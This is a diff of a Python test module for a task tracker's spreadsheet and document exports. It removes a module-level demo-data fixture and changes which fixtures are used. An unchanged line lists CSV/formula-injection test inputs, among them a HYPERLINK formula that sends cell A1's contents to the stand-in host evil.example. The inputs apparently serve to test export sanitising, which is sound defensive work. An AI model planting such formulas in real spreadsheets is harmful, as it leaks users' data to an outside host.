@@ -12,7 +12,7 @@ from docx import Document
 from openpyxl import load_workbook
 from sqlalchemy import select
 
-from tests.conftest import NOW, TODAY, cheap_hashing, empty_tables, keep_module_data, login
+from tests.conftest import NOW, TODAY, login
 from tests.status.test_numbers import recount
 from tracker.assignments import operations as ops
 from tracker.assignments.models import Assignment
@@ -26,28 +26,11 @@ from tracker.status.exports import HEADER_ROW, XLSX_MIMETYPE, filename
 from tracker.status.filters import StatusFilters
 from tracker.tasks.models import Task
 
-pytestmark = pytest.mark.usefixtures("fast_passwords", "status_today")
+pytestmark = pytest.mark.usefixtures("status_today", "demo_data")
 DEMO_PASSWORD = "demo123456"
 STATE_ORDER = ("done_on_time", "done_late", "in_progress", "not_started", "overdue")
 INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+SUM(1,2)",
               "-2+3", "@SUM(A1)"]
-
-
-@pytest.fixture(scope="module")
-def demo(app):
-    """The demo dataset, loaded once for the module (loading it takes seconds): the tests
-    only read it, except the formula tests, which add a province of their own beside it.
-    The tables are emptied when the module ends, as the suite expects."""
-    from tracker.demo.loader import load_demo
-    with cheap_hashing(), app.app_context():
-        load_demo(now=NOW)
-        db.session.commit()
-    yield
-    with app.app_context():
-        empty_tables()
-
-
-_clean_database = keep_module_data("demo")  # the demo stays for the whole module
 
 
 def body(name: str) -> Body:
